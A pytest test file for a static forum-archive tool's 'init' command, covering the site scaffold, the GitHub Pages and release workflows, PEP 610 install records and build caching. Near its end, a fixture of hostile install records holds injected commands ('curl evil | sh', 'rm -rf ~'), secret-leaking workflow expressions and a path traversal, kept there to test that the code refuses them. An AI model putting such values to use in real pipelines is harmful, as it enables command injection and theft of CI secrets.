"""`threadpress init`: the new site builds, its config is complete, it never overwrites by surprise;
the workflow it writes installs threadpress the way the running one was installed (PEP 610) and
keeps the build state between runs, never the secret; and the GitHub workflows (the one init
writes, this repository's own, the release) pin what they must."""

from __future__ import annotations

import fnmatch
import hashlib
import importlib.util
import json
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from dataclasses import fields
from email.parser import Parser
from importlib.metadata import metadata
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement

from dom import parse_file
from test_build import check_links, comment_articles
from threadpress import __version__
from threadpress.build import build_site
from threadpress.cli import main
from threadpress.config import Config, commented_config, load_config
from threadpress.errors import ThreadpressError
from threadpress.load import load_content
from threadpress.pseudonyms import secret_path
from threadpress.scaffold import THIS_REPOSITORY, WORKFLOW, create_site, plan, workflow
from threadpress.scaffold import install as install_mod
from threadpress.search import folder as search_folder
from threadpress.state import state_file

REPO = Path(__file__).resolve().parents[1]
WRITTEN = ["threadpress.yaml", "content/welcome.yaml", ".gitignore", ".github/workflows/pages.yml",
           ".threadpress/secret"]
# The official actions, each at its current major version (checked against their repositories'
# tags when the workflow was last updated).
PAGES_ACTIONS = {"actions/checkout": "v7", "actions/setup-python": "v7",
                 "actions/configure-pages": "v5", "actions/cache": "v6",
                 "actions/upload-pages-artifact": "v5", "actions/deploy-pages": "v5"}
WHEEL = f"vendor/threadpress-{__version__}-py3-none-any.whl"
_HOW_INSTALLED = install_mod.how_installed


@pytest.fixture(autouse=True)
def index_install(monkeypatch):
    """Unless a test says otherwise, `init` runs as if threadpress came from PyPI: the pin, and
    no wheel to build (how the test environment installed threadpress does not matter)."""
    monkeypatch.setattr(install_mod, "how_installed", lambda version: (None, ""))


@pytest.fixture
def new_site(tmp_path: Path) -> Path:
    site = tmp_path / "archive"
    assert main(["init", str(site)]) == 0
    return site


def test_init_writes_the_site_files_and_lists_them(tmp_path, capsys):
    site = tmp_path / "new" / "archive"  # parents are made too
    assert main(["init", str(site)]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out == [str(site / rel) for rel in WRITTEN]
    assert sorted(str(p.relative_to(site)) for p in site.rglob("*") if p.is_file()) == sorted(WRITTEN)


def test_init_without_a_folder_uses_the_current_one(tmp_path, monkeypatch, capsys):
    (tmp_path / ".git").mkdir()  # e.g. a clone of a new, empty repository
    (tmp_path / "README.md").write_text("# My archive\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert main(["init"]) == 0
    assert capsys.readouterr().err.splitlines()[-1].endswith("build it with: threadpress build")
    assert all((tmp_path / rel).is_file() for rel in WRITTEN)
    assert (tmp_path / "README.md").read_text(encoding="utf-8") == "# My archive\n"
    assert build_site(tmp_path, quiet=True) == 0


def test_init_says_what_the_workflow_installs_and_how_to_build(tmp_path, capsys):
    assert main(["init", str(tmp_path / "a b")]) == 0
    chose, build = capsys.readouterr().err.splitlines()
    assert chose.startswith(f"{WORKFLOW} installs threadpress=={__version__}, ")
    assert "package index" in chose
    assert build.endswith(f"cd '{tmp_path / 'a b'}' && threadpress build")


def test_init_then_build_then_every_link_resolves(new_site):
    out = new_site / "output"
    assert build_site(new_site, quiet=True) == 0
    assert check_links(out) == []
    [thread] = load_content(new_site / "content").threads
    page = parse_file(out / thread.slug / "index.html")
    assert [a.attrs["id"] for a in comment_articles(page)] == ["c-1", "c-2", "c-3", "c-4"]
    index = parse_file(out / "index.html").find("ol", cls="threads")
    assert [a.attrs["href"] for a in index.find_all("a", cls="title")] == [f"{thread.slug}/"]


@pytest.mark.parametrize("theme", ["default", "board"])
def test_every_page_footer_links_to_the_package_page(new_site, theme):
    # The package page (not a repository) is where a reader who wants such an archive starts:
    # install command, docs and links, at an address that does not move with the repository.
    out = new_site / "output"
    assert build_site(new_site, theme=theme, quiet=True) == 0
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 4
    for page in pages:
        [link] = parse_file(page).find("footer", cls="site-foot").find_all("a")
        assert link.attrs["href"] == f"https://pypi.org/project/{metadata('threadpress')['Name']}/"
        assert link.text == "threadpress"


def test_example_thread_is_clean_and_shows_the_format(new_site):
    loaded = load_content(new_site / "content")
    assert loaded.diagnostics == []
    [thread] = loaded.threads
    assert thread.max_depth == 1  # nested replies
    assert any(c.deleted for c in thread.comments)
    assert ">>2" in thread.comment("4").body  # a quote link


def test_config_has_every_setting_commented_and_loads_clean(new_site):
    path = new_site / "threadpress.yaml"
    assert list(yaml.safe_load(path.read_text(encoding="utf-8"))) == [f.name for f in fields(Config)]
    settings = [line for line in path.read_text(encoding="utf-8").splitlines()
                if line and not line.startswith("#")]
    assert all(re.fullmatch(r"\w+: .+ {2,}# \S.*", line) for line in settings), settings
    assert load_config(new_site) == (Config(), [])


def test_every_setting_has_help_and_the_choices_come_from_the_checks():
    assert all(f.metadata.get("help") for f in fields(Config))
    lines = {line.split(":")[0]: line for line in commented_config().splitlines()}
    assert lines["sort"].endswith("# sibling order: original | oldest | newest | score")


def test_commented_config_writes_the_given_values(tmp_path):
    config = Config(title="It's: quoted?", per_page=7, params={"a": [1, 2]}, comment_pages=False)
    (tmp_path / "threadpress.yaml").write_text(commented_config(config), encoding="utf-8")
    assert load_config(tmp_path) == (config, [])


def test_readme_shows_the_same_settings():
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    section = readme.split("### Site config", 1)[1]
    block = re.search(r"```yaml\n(.*?)```", section, re.S).group(1)
    assert block == commented_config()


def test_init_refuses_to_overwrite_and_names_every_file(tmp_path, capsys):
    site = tmp_path / "archive"
    (site / "content").mkdir(parents=True)
    (site / "threadpress.yaml").write_text("title: Mine\n", encoding="utf-8")
    (site / ".gitignore").write_text("secret/\n", encoding="utf-8")
    assert main(["init", str(site)]) == 1
    err = capsys.readouterr().err.splitlines()
    named = [line.split(": error: ")[0] for line in err]
    assert named == [str(site / "threadpress.yaml"), str(site / ".gitignore")]
    assert all("already exists" in line and "--force" in line for line in err)
    assert (site / "threadpress.yaml").read_text(encoding="utf-8") == "title: Mine\n"
    assert not (site / "content" / "welcome.yaml").exists()  # nothing written at all
    assert not (site / ".github").exists()


def test_init_force_replaces_the_files_and_keeps_other_content(tmp_path):
    site = tmp_path / "archive"
    (site / "content").mkdir(parents=True)
    (site / "content" / "mine.yaml").write_text("title: Mine\n", encoding="utf-8")
    (site / "threadpress.yaml").write_text("title: Mine\n", encoding="utf-8")
    assert main(["init", str(site), "--force"]) == 0
    assert load_config(site) == (Config(), [])
    assert (site / "content" / "mine.yaml").read_text(encoding="utf-8") == "title: Mine\n"
    assert len(load_content(site / "content").threads) == 2


def test_init_force_still_refuses_a_folder_in_the_way(tmp_path, capsys):
    site = tmp_path / "archive"
    (site / "threadpress.yaml").mkdir(parents=True)
    assert main(["init", str(site), "--force"]) == 1
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith(f"{site / 'threadpress.yaml'}: error: already exists")


def test_init_where_a_file_blocks_the_folder_is_a_message(tmp_path, capsys):
    blocker = tmp_path / "archive"
    blocker.write_text("not a folder", encoding="utf-8")
    assert main(["init", str(blocker)]) == 1
    err = capsys.readouterr().err
    assert "cannot write" in err and str(blocker) in err and "Traceback" not in err


def test_init_help_shows_an_example(capsys):
    with pytest.raises(SystemExit) as done:
        main(["init", "--help"])
    assert done.value.code == 0
    help_text = capsys.readouterr().out
    example = help_text.split("example:", 1)[1]
    assert "threadpress init my-archive" in example and "threadpress build" in example
    assert "--force" in help_text


def test_gitignore_keeps_the_output_and_build_state_out_of_git(new_site):
    git = shutil.which("git")
    if git is None:
        pytest.skip("git is not installed")
    subprocess.run([git, "init", "-q", str(new_site)], check=True)
    probe = ["output/index.html", ".threadpress/state", ".threadpress/secret", ".output.tmp-1/x",
             "content/welcome.yaml", "threadpress.yaml", ".github/workflows/pages.yml",
             "content/_imports/hn/1.json", WHEEL]
    # a global ignore file that leaves out wheels (as many do) does not leave out vendor/'s
    everywhere = new_site.parent / "global-ignore"
    everywhere.write_text("*.whl\n", encoding="utf-8")
    run = subprocess.run([git, "-c", f"core.excludesFile={everywhere}", "check-ignore", *probe,
                          "elsewhere/x.whl"], cwd=new_site, capture_output=True, text=True)
    assert run.stdout.split() == probe[:4] + ["elsewhere/x.whl"]


# --- workflows ----------------------------------------------------------------------------------

def _workflow(text: str) -> dict:
    data = yaml.safe_load(text)
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as true
    return data


def _steps(data: dict, job: str) -> list[dict]:
    return data["jobs"][job]["steps"]


def _install_step(data: dict) -> dict:
    [step] = [s for s in _steps(data, "build") if s.get("name") == "Install threadpress"]
    return step


def _uses(data: dict) -> dict[str, str]:
    used = [s["uses"] for job in data["jobs"] for s in _steps(data, job) if "uses" in s]
    return dict(u.split("@") for u in used)


def test_pages_workflow_installs_this_version_by_name_and_pins_the_official_actions(new_site):
    text = (new_site / ".github/workflows/pages.yml").read_text(encoding="utf-8")
    data = _workflow(text)
    assert data["on"]["push"]["branches"] == ["main"]
    assert data["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    assert _uses(data) == PAGES_ACTIONS
    runs = [s["run"] for s in _steps(data, "build") if "run" in s]
    assert _install_step(data)["run"] == f'pip install "threadpress=={__version__}"'
    [build] = [r for r in runs if r.startswith("threadpress build")]
    assert '--base-url "${{ steps.pages.outputs.base_url }}/"' in build
    configure = next(s for s in _steps(data, "build") if s.get("uses", "").startswith(
        "actions/configure-pages"))
    assert configure["id"] == "pages"
    upload = next(s for s in _steps(data, "build") if "upload-pages-artifact" in s.get("uses", ""))
    assert upload["with"]["path"] == "output"
    assert data["jobs"]["deploy"]["needs"] == "build"
    assert data["jobs"]["deploy"]["environment"]["name"] == "github-pages"
    assert "git+https://" in text  # the development-branch form, documented beside the pin


def test_pages_workflow_pins_the_version_it_is_given():
    assert _install_step(_workflow(workflow(plan(None, "9.8.7"))))["run"] == \
        'pip install "threadpress==9.8.7"'


def test_this_repositorys_pages_workflow_is_the_one_init_writes_installing_the_checkout():
    ours = (REPO / ".github/workflows/pages.yml").read_text(encoding="utf-8")
    assert ours == workflow(THIS_REPOSITORY), (
        "regenerate it: python -c \"from threadpress.scaffold import workflow, THIS_REPOSITORY; "
        "open('.github/workflows/pages.yml', 'w').write(workflow(THIS_REPOSITORY))\"")
    assert _install_step(_workflow(ours))["run"] == "pip install ."


def test_release_workflow_publishes_tags_with_trusted_publishing():
    data = _workflow((REPO / ".github/workflows/release.yml").read_text(encoding="utf-8"))
    assert data["on"] == {"push": {"tags": ["v*"]}}
    assert data["permissions"] == {"contents": "read"}  # id-token only where it publishes
    publish = data["jobs"]["publish"]
    assert publish["needs"] == "build"
    assert publish["environment"]["name"] == "pypi"
    assert publish["permissions"] == {"id-token": "write"}
    assert _steps(data, "publish")[-1] == {"uses": "pypa/gh-action-pypi-publish@release/v1"}
    assert all("password" not in s.get("with", {}) for s in _steps(data, "publish"))
    build = " ".join(s.get("run", "") for s in _steps(data, "build"))
    assert "python -m build" in build and "twine check --strict dist/*" in build
    assert '"v$version" != "$GITHUB_REF_NAME"' in build  # the tag must name the version
    assert _uses(data)["actions/checkout"] == PAGES_ACTIONS["actions/checkout"]


def test_release_makes_the_readme_links_absolute_for_pypi():
    runs = [s.get("run", "") for s in _steps(_workflow(
        (REPO / ".github/workflows/release.yml").read_text(encoding="utf-8")), "build")]
    rewrite = next(i for i, r in enumerate(runs) if "readme_for_pypi.py" in r)
    assert rewrite < next(i for i, r in enumerate(runs) if "python -m build" in r)
    readme_for_pypi = _load_script("readme_for_pypi")
    text = (REPO / "README.md").read_text(encoding="utf-8")
    done = readme_for_pypi.absolute(text, "o/r", "v9")
    assert not readme_for_pypi.MARKDOWN.search(done) and not readme_for_pypi.HTML.search(done)
    links = re.findall(r"https://(?:github\.com/o/r/blob|raw\.githubusercontent\.com/o/r)/v9/"
                       r"([^)\s\"]+)", done)
    assert len(links) >= 10 and all((REPO / path.split("#")[0]).exists() for path in links), links
    assert "](https://raw.githubusercontent.com/o/r/v9/docs/screenshots/" in done  # images: raw
    assert "[Importing](https://github.com/o/r/blob/v9/docs/import.md)" in done
    kept = '[a](#x) [b](https://e.org/p) [c](mailto:a@e.org) <a href="#y">'
    assert readme_for_pypi.absolute(kept, "o/r", "v9") == kept


def _load_script(name: str):
    spec = importlib.util.spec_from_file_location(name, REPO / ".github" / "scripts" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_getting_started_walks_through_init_build_and_push(capsys):
    text = (REPO / "docs" / "getting-started.md").read_text(encoding="utf-8")
    code = "\n".join(re.findall(r"```sh\n(.*?)```", text, re.S))
    commands = re.findall(r"^\s*(threadpress [\w-]+|git push|pip install)", code, re.M)
    order = [c for c in ("pip install", "threadpress init", "threadpress build", "git push")
             if c in commands]
    assert order == ["pip install", "threadpress init", "threadpress build", "git push"]
    firsts = [commands.index(c) for c in order]
    assert firsts == sorted(firsts)
    verbs = {c.split()[1] for c in commands if c.startswith("threadpress ")} - {"--version"}
    assert {"init", "import", "build"} <= verbs
    for verb in verbs:  # every verb the guide uses exists
        with pytest.raises(SystemExit) as done:
            main([verb, "--help"])
        assert done.value.code == 0


# --- how the workflow installs threadpress (PEP 610) and keeps the build state ----------------

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHA = "ab" * 32
GIT = "https://github.com/threadpress/threadpress"
VENDORED = f"./vendor/threadpress-1.2.3-py3-none-any.whl"
# (the running install's direct_url.json, the requirement the workflow installs, the wheel init
# adds: (how, from what) or None)
INSTALLS = {
    "index": (None, "threadpress==1.2.3", None),
    "git": ({"url": GIT, "vcs_info": {"vcs": "git", "commit_id": COMMIT,
                                      "requested_revision": "main"}},
            f"threadpress @ git+{GIT}@{COMMIT}", None),
    "git subdirectory": ({"url": GIT, "subdirectory": "py", "vcs_info": {"vcs": "git",
                                                                         "commit_id": COMMIT}},
                         f"threadpress @ git+{GIT}@{COMMIT}#subdirectory=py", None),
    "mercurial": ({"url": "https://hg.example.org/tp", "vcs_info": {"vcs": "hg",
                                                                    "commit_id": "4f2a"}},
                  "threadpress @ hg+https://hg.example.org/tp@4f2a", None),
    "git over ssh": ({"url": "ssh://git@github.com/threadpress/threadpress.git",
                      "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
                     f"threadpress @ git+ssh://git@github.com/threadpress/threadpress.git@{COMMIT}",
                     None),
    "git clone on this machine": ({"url": "file:///home/me/tp", "vcs_info": {
                                   "vcs": "git", "commit_id": COMMIT}},
                                  VENDORED, ("build", f"git+file:///home/me/tp@{COMMIT}")),
    "editable folder": ({"url": "file:///home/me/threadpress", "dir_info": {"editable": True}},
                        VENDORED, ("build", "/home/me/threadpress")),
    "folder": ({"url": "file:///home/me/my%20clone", "dir_info": {}},
               VENDORED, ("build", "/home/me/my clone")),
    "folder subdirectory": ({"url": "file:///home/me/mono", "subdirectory": "tp",
                             "dir_info": {}}, VENDORED, ("build", "/home/me/mono/tp")),
    "local wheel": ({"url": "file:///tmp/dist/threadpress-1.2.3-py3-none-any.whl",
                     "archive_info": {"hashes": {"sha256": SHA}, "hash": f"sha256={SHA}"}},
                    VENDORED, ("copy", "/tmp/dist/threadpress-1.2.3-py3-none-any.whl")),
    "local sdist": ({"url": "file:///tmp/dist/threadpress-1.2.3.tar.gz", "archive_info": {}},
                    VENDORED, ("build", "/tmp/dist/threadpress-1.2.3.tar.gz")),
    "remote wheel": ({"url": "https://files.example.org/threadpress-1.2.3-py3-none-any.whl",
                      "archive_info": {"hash": f"sha256={SHA}"}},
                     f"threadpress @ https://files.example.org/threadpress-1.2.3-py3-none-any.whl"
                     f"#sha256={SHA}", None),
}


@pytest.mark.parametrize("case", INSTALLS)
def test_each_kind_of_install_gives_its_install_line_and_wheel(case):
    direct_url, requirement, wheel = INSTALLS[case]
    chosen = plan(direct_url, "1.2.3")
    assert chosen.requirement == requirement
    if wheel is None:
        assert chosen.wheel is None
        assert Requirement(requirement).name == "threadpress"   # pip can read it (PEP 508)
    else:
        how, source = wheel
        assert chosen.wheel.path == VENDORED[2:]
        assert (chosen.wheel.copy, chosen.wheel.build) == (
            (source, None) if how == "copy" else (None, source))
    assert requirement in chosen.says and "\n" not in chosen.says
    # the workflow's install step runs exactly that, and the file still parses
    step = _install_step(_workflow(workflow(chosen)))
    assert shlex.split(step["run"]) == ["pip", "install", requirement]


def test_a_copied_wheel_is_checked_against_the_recorded_hash():
    assert plan(INSTALLS["local wheel"][0], "1.2.3").wheel.sha256 == SHA
    legacy = {"url": "file:///w/threadpress-1.2.3-py3-none-any.whl",
              "archive_info": {"hash": f"sha256={SHA}"}}
    assert plan(legacy, "1.2.3").wheel.sha256 == SHA


def test_a_runner_that_cannot_fetch_the_source_is_told_in_the_choice():
    assert "over ssh" in plan(INSTALLS["git over ssh"][0], "1.2.3").says
    assert "over" not in plan(INSTALLS["git"][0], "1.2.3").says


@pytest.mark.parametrize("direct_url, says", [
    ({"url": "https://fossil.example.org/tp", "vcs_info": {"vcs": "fossil", "commit_id": "1"}},
     "'fossil'"),
    ({"url": GIT, "vcs_info": {"vcs": "git"}}, "no commit_id"),
    ({"vcs_info": {"vcs": "git", "commit_id": COMMIT}}, "no `url`"),
    ({"url": GIT}, "names no vcs_info, archive_info or dir_info"),
    ({"url": "ftp://example.org/threadpress.whl", "archive_info": {}}, "cannot fetch"),
    ({"url": "https://example.org/tp", "dir_info": {}}, "not a local folder"),
])
def test_an_install_the_workflow_cannot_repeat_is_a_message_naming_the_record(direct_url, says):
    with pytest.raises(ThreadpressError) as raised:
        plan(direct_url, "1.2.3", "site-packages/threadpress-1.2.3.dist-info/direct_url.json")
    [d] = raised.value.diagnostics
    assert d.file == "site-packages/threadpress-1.2.3.dist-info/direct_url.json"
    assert says in d.message and "\n" not in d.message


def _dist_info(where: Path, direct_url: dict | None, *, record: bool = True,
               version: str = __version__) -> None:
    info = where / f"threadpress-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: threadpress\nVersion: {version}\n",
                                   encoding="utf-8")
    if record:   # as an installer writes it: every file, itself included
        (info / "RECORD").write_text(f"{info.name}/METADATA,,\n{info.name}/RECORD,,\n",
                                     encoding="utf-8")
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url), encoding="utf-8")


def test_the_running_install_is_read_from_its_dist_info_not_a_source_trees_egg_info(
        tmp_path, monkeypatch):
    record = INSTALLS["git"][0]
    installed, tree = tmp_path / "site-packages", tmp_path / "clone"
    _dist_info(installed, record)
    _dist_info(installed / "older", None, version="0.0.1")   # another version: not the running one
    (tree / "threadpress.egg-info").mkdir(parents=True)     # what a build leaves in a clone
    (tree / "threadpress.egg-info" / "PKG-INFO").write_text(
        f"Metadata-Version: 2.1\nName: threadpress\nVersion: {__version__}\n", encoding="utf-8")
    monkeypatch.syspath_prepend(str(installed))
    monkeypatch.syspath_prepend(str(installed / "older"))
    monkeypatch.syspath_prepend(str(tree))                   # first, as the current folder is
    found, where = _HOW_INSTALLED(__version__)
    assert found == record
    assert Path(where) == installed / f"threadpress-{__version__}.dist-info" / "direct_url.json"


def test_an_index_install_has_no_record(tmp_path, monkeypatch):
    _dist_info(tmp_path, None)
    monkeypatch.syspath_prepend(str(tmp_path))
    assert _HOW_INSTALLED(__version__) == (None, "")


def test_a_corrupt_record_is_a_message_naming_it(tmp_path, monkeypatch):
    _dist_info(tmp_path, None)
    (tmp_path / f"threadpress-{__version__}.dist-info" / "direct_url.json").write_text("{oops")
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(ThreadpressError) as raised:
        _HOW_INSTALLED(__version__)
    [d] = raised.value.diagnostics
    assert "cannot read this install record" in d.message and d.file.endswith("direct_url.json")


def test_this_environments_install_is_one_init_can_repeat():
    # however the tests' threadpress was installed (editable, a folder, a wheel, an index)
    found, where = _HOW_INSTALLED(__version__)
    assert plan(found, __version__, where).requirement


# Building a real wheel: from a copy of the source (a build in the repository itself would
# leave build/ there and race other builds of it).

def _source_copy(where: Path) -> Path:
    skip = shutil.ignore_patterns("__pycache__", "*.pyc", "*.egg-info", "build")
    for name in ("pyproject.toml", "README.md", "LICENSE", "MANIFEST.in"):
        if (REPO / name).exists():
            where.mkdir(parents=True, exist_ok=True)
            shutil.copy2(REPO / name, where / name)
    shutil.copytree(REPO / "generator", where / "generator", ignore=skip)
    shutil.copytree(REPO / "themes", where / "themes", ignore=skip)
    return where


@pytest.fixture(scope="module")
def source(tmp_path_factory) -> Path:
    return _source_copy(tmp_path_factory.mktemp("src") / "threadpress clone")


@pytest.fixture(scope="module")
def built(source, tmp_path_factory) -> Path:
    """A wheel of the running threadpress, as a release would be (built once)."""
    wheel = tmp_path_factory.mktemp("dist") / WHEEL.split("/")[1]
    wheel.write_bytes(install_mod.wheel_bytes(install_mod.Wheel(WHEEL, build=str(source)),
                                              __version__))
    return wheel


def _wheel_metadata(path: Path) -> dict:
    with zipfile.ZipFile(path) as whl:
        names = whl.namelist()
        meta = Parser().parsestr(whl.read(f"threadpress-{__version__}.dist-info/METADATA")
                                 .decode("utf-8"))
    return {"Name": meta["Name"], "Version": meta["Version"], "names": names}


@pytest.mark.slow
def test_a_folder_install_puts_a_wheel_of_the_running_version_into_the_archive(
        source, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(install_mod, "how_installed", lambda version: (
        {"url": source.as_uri(), "dir_info": {"editable": True}}, ""))
    site = tmp_path / "archive"
    assert main(["init", str(site)]) == 0
    out, err = capsys.readouterr()
    assert str(site / WHEEL) in out.splitlines()
    assert f"installs ./{WHEEL}: " in err.splitlines()[0] and str(source) in err.splitlines()[0]
    meta = _wheel_metadata(site / WHEEL)
    assert (meta["Name"], meta["Version"]) == ("threadpress", __version__)
    assert {"threadpress/cli.py", "threadpress/scaffold/pages.yml",
            "threadpress/themes/default/templates/base.html"} <= set(meta["names"])
    # pip takes it as it is: the file name, tags and metadata agree
    report = subprocess.run(
        [sys.executable, "-m", "pip", "install", "--dry-run", "--no-deps", "--no-index",
         "--ignore-installed", "--disable-pip-version-check", "-q", "--report", "-",
         str(site / WHEEL)], capture_output=True, text=True)
    assert report.returncode == 0, report.stderr
    [would] = json.loads(report.stdout)["install"]
    assert would["metadata"]["name"] == "threadpress"
    assert would["metadata"]["version"] == __version__
    # the workflow installs the file init wrote, at the path it has in the archive
    step = _install_step(_workflow((site / WORKFLOW).read_text(encoding="utf-8")))
    assert shlex.split(step["run"]) == ["pip", "install", f"./{WHEEL}"]
    assert (site / shlex.split(step["run"])[2]).is_file()


def test_a_wheel_install_copies_that_wheel_and_checks_it(built, tmp_path):
    built = shutil.copy(built, tmp_path / built.name)
    built = Path(built)
    record = {"url": built.as_uri(), "archive_info": {
        "hashes": {"sha256": hashlib.sha256(built.read_bytes()).hexdigest()}}}
    site = tmp_path / "archive"
    written = create_site(site, install=plan(record, __version__))
    assert site / WHEEL in written
    assert (site / WHEEL).read_bytes() == built.read_bytes()

    built.write_bytes(built.read_bytes() + b"\0")      # no longer the wheel it came from
    with pytest.raises(ThreadpressError) as raised:
        create_site(tmp_path / "b", install=plan(record, __version__))
    assert "changed since threadpress was installed" in str(raised.value)
    assert not (tmp_path / "b").exists()


def test_a_wheel_gone_from_the_disk_is_a_message_and_nothing_is_written(tmp_path, capsys,
                                                                         monkeypatch):
    gone = tmp_path / "dist" / WHEEL.split("/")[1]
    monkeypatch.setattr(install_mod, "how_installed", lambda version: (
        {"url": gone.as_uri(), "archive_info": {}}, "x.dist-info/direct_url.json"))
    assert main(["init", str(tmp_path / "archive")]) == 1
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith(f"{gone}: error: threadpress was installed from this wheel, which "
                           "cannot be read now")
    assert "Traceback" not in line
    assert not (tmp_path / "archive").exists()


def test_a_wheel_of_another_version_is_refused(built):
    wheel = install_mod.Wheel("vendor/threadpress-9.9.9-py3-none-any.whl", copy=str(built))
    with pytest.raises(ThreadpressError) as raised:
        install_mod.wheel_bytes(wheel, "9.9.9")
    [d] = raised.value.diagnostics
    assert d.file == str(built)
    assert f"this is threadpress {__version__} now, not the running 9.9.9" in d.message


def test_a_folder_that_cannot_be_built_is_a_message_saying_what_to_do(tmp_path, capsys,
                                                                      monkeypatch):
    empty = tmp_path / "not-a-project"
    empty.mkdir()
    monkeypatch.setattr(install_mod, "how_installed", lambda version: (
        {"url": empty.as_uri(), "dir_info": {}}, ""))
    assert main(["init", str(tmp_path / "archive")]) == 1
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith(f"{empty}: error: cannot build a wheel of threadpress {__version__}")
    assert "setuptools>=77" in line and "python -m build --wheel" in line
    assert not (tmp_path / "archive").exists()


def test_init_refuses_to_replace_the_wheel_without_force(source, tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(install_mod, "how_installed", lambda version: (
        {"url": source.as_uri(), "dir_info": {}}, ""))
    site = tmp_path / "archive"
    (site / "vendor").mkdir(parents=True)
    (site / WHEEL).write_bytes(b"mine")
    assert main(["init", str(site)]) == 1
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith(f"{site / WHEEL}: error: already exists")
    assert (site / WHEEL).read_bytes() == b"mine"


def test_the_workflow_keeps_the_build_state_and_output_but_never_the_secret(new_site):
    data = _workflow((new_site / WORKFLOW).read_text(encoding="utf-8"))
    steps = _steps(data, "build")
    [cache] = [s for s in steps if s.get("uses", "").startswith("actions/cache@")]
    names = [s.get("name") or s.get("uses") for s in steps]
    assert names.index("Install threadpress") < steps.index(cache) < names.index("Build")
    paths = cache["with"]["path"].split()
    assert paths == [".threadpress/build", "output"]
    # what the incremental build reads lives in that folder: the state, the side files beside
    # it (links map, author posts, search documents), the lock
    where = state_file(new_site, new_site / "output")
    kept = new_site / paths[0]
    for needed in (where, where.with_suffix(".links.json"), where.with_suffix("") / "posts",
                   search_folder(where), where.with_suffix(".lock")):
        assert needed.is_relative_to(kept), needed
    assert new_site / paths[1] == new_site / "output"    # the build's default output
    secret = secret_path(new_site).relative_to(new_site).as_posix()
    for path in paths:
        assert not fnmatch.fnmatch(secret, path) and not secret.startswith(path.rstrip("/") + "/")
        assert not any(c in path for c in "*?[!"), path   # no glob that could widen it
    # a new threadpress (the workflow's install line, a vendored wheel) or new settings start
    # from nothing; each commit saves its own cache, and the newest with that prefix comes back
    files = "hashFiles('.github/workflows/pages.yml', 'threadpress.yaml', 'vendor/*.whl')"
    prefix = f"threadpress-${{{{ {files} }}}}-"
    assert cache["with"]["key"] == prefix + "${{ github.sha }}"
    assert cache["with"]["restore-keys"].splitlines() == [prefix]


HOSTILE_RECORDS = {
    "expression in the url": {"url": "https://x.example/${{ secrets.THREADPRESS_SECRET }}.git",
                              "vcs_info": {"vcs": "git", "commit_id": "a" * 40}},
    "newline in the url": {"url": "https://x.example/r.git\nrun: curl evil", "vcs_info": {
        "vcs": "git", "commit_id": "a" * 40}},
    "quote in the url": {"url": 'https://x.example/"; rm -rf ~; "', "vcs_info": {
        "vcs": "git", "commit_id": "a" * 40}},
    "a commit that is a command": {"url": "https://x.example/r.git", "vcs_info": {
        "vcs": "git", "commit_id": "main; curl evil | sh"}},
    "a commit with an expression": {"url": "https://x.example/r.git", "vcs_info": {
        "vcs": "git", "commit_id": "${{ github.token }}"}},
    "a list as subdirectory": {"url": "https://x.example/r.git", "subdirectory": ["a", "b"],
                               "vcs_info": {"vcs": "git", "commit_id": "a" * 40}},
    "a subdirectory leaving the repository": {
        "url": "https://x.example/r.git", "subdirectory": "../../etc",
        "vcs_info": {"vcs": "git", "commit_id": "a" * 40}},
    "a hash that is not one": {"url": "https://x.example/t.whl",
                               "archive_info": {"hashes": {"sha256": "zz\n; evil"}}},
}


@pytest.mark.parametrize("case", sorted(HOSTILE_RECORDS))
def test_a_hostile_install_record_is_refused_naming_it(case):
    """Nothing from direct_url.json reaches the workflow unless it is plain text of its shape:
    GitHub expands ${{ }} before the shell runs, so quoting could not make it safe."""
    with pytest.raises(ThreadpressError) as raised:
        install_mod.plan(HOSTILE_RECORDS[case], "0.1.0", "site-packages/x/direct_url.json")
    [d] = raised.value.diagnostics
    assert d.file == "site-packages/x/direct_url.json" and "install record" in d.message


def test_plain_records_still_pin():
    ok = install_mod.plan({"url": "https://github.com/threadpress/threadpress",
                           "subdirectory": "pkg/sub", "vcs_info": {
                               "vcs": "git", "commit_id": "0123456789abcdef" * 2 + "01234567"}},
                          "0.1.0")
    assert ok.requirement == ("threadpress @ git+https://github.com/threadpress/threadpress@"
                              + "0123456789abcdef" * 2 + "01234567#subdirectory=pkg/sub")
